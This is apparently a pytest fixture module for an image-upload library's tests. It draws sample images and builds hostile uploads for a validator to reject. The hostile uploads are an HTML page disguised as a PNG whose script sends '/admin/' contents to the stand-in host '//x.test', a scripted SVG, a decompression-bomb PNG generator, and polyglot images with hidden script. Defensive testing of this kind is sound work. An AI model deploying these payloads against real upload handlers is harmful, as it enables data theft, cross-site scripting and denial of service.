"""Pictures drawn for the image tests, and a media folder of each test's own."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image, ImageDraw
from PIL.PngImagePlugin import PngInfo


@pytest.fixture(autouse=True)
def _own_media(media_root: Path) -> Path:
    """Files the library stores go to a temporary folder, never the project's media/."""
    return media_root


def stored_files(root: Path) -> list[str]:
    return sorted(str(path.relative_to(root)) for path in root.rglob("*") if path.is_file())


def drawing(size: tuple[int, int] = (800, 600), mode: str = "RGB") -> Image.Image:
    """A made-up anatomy sketch: a pale (or transparent) background, a red joint in the middle, a
    blue bar near the bottom, a black mark in the top-left corner (to see which way up it is)."""
    colours = {
        "RGB": [(240, 236, 228), (200, 40, 40), (30, 60, 200), (0, 0, 0)],
        "RGBA": [(240, 236, 228, 0), (200, 40, 40, 255), (30, 60, 200, 255), (0, 0, 0, 255)],
        "L": [235, 90, 40, 0],
    }[mode]
    background, red, blue, black = colours
    image = Image.new(mode, size, background)
    draw = ImageDraw.Draw(image)
    w, h = size
    draw.ellipse((w * 0.3, h * 0.3, w * 0.7, h * 0.7), fill=red)
    draw.rectangle((w * 0.2, h * 0.8, w * 0.8, h * 0.85), fill=blue)
    draw.rectangle((0, 0, w // 10, h // 10), fill=black)
    return image


def encoded(image: Image.Image, format: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, format, **options)
    return out.getvalue()


def png(size: tuple[int, int] = (800, 600), mode: str = "RGB", **options) -> bytes:
    return encoded(drawing(size, mode), "PNG", **options)


def jpeg(size: tuple[int, int] = (800, 600), **options) -> bytes:
    return encoded(drawing(size), "JPEG", quality=90, **options)


# --- hostile files, as an attacker would make them -----------------------------------------------

HTML_PAGE = b"""<!DOCTYPE html>
<html><head><title>Invoice</title></head>
<body><script>fetch('/admin/').then(r => r.text()).then(t => navigator.sendBeacon('//x.test', t))
</script></body>
</html>
"""

SVG_WITH_SCRIPT = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" viewBox="0 0 200 200">
  <circle cx="100" cy="100" r="80" fill="#c33"/>
  <script type="text/javascript">alert(document.domain)</script>
</svg>
"""


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A real PNG of ``width`` × ``height`` black pixels (1 bit each), a few hundred kilobytes:
    decoded, it is ``width × height`` bytes of memory."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte, then the row's bits
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def truncated_jpeg() -> bytes:
    whole = jpeg((1200, 900))
    return whole[: len(whole) * 2 // 3]


def png_with_script_in_text_chunk() -> bytes:
    info = PngInfo()
    info.add_text("Comment", "<script>alert(document.cookie)</script>")
    return png((400, 300), pnginfo=info)


def jpeg_with_html_comment() -> bytes:
    return jpeg((400, 300), comment=b"<html><body onload=alert(1)>hi</body></html>")


def png_with_html_appended() -> bytes:
    return png((400, 300)) + HTML_PAGE


HOSTILE = {
    # name on the upload: (bytes, words of the message the editor sees)
    "html-renamed.png": (lambda: HTML_PAGE, "is a web page (HTML), not an image"),
    "drawing.svg": (lambda: SVG_WITH_SCRIPT, "is an SVG drawing, which can carry scripts"),
    "bomb.png": (png_bomb, "30,000 × 30,000 pixels"),
    "cut-short.jpg": (truncated_jpeg, "is cut short"),
    "polyglot-text-chunk.png": (png_with_script_in_text_chunk, "web page code (HTML or script) hidden in it"),
    "polyglot-comment.jpg": (jpeg_with_html_comment, "web page code (HTML or script) hidden in it"),
    "polyglot-appended.png": (png_with_html_appended, "web page code (HTML or script) hidden in it"),
}
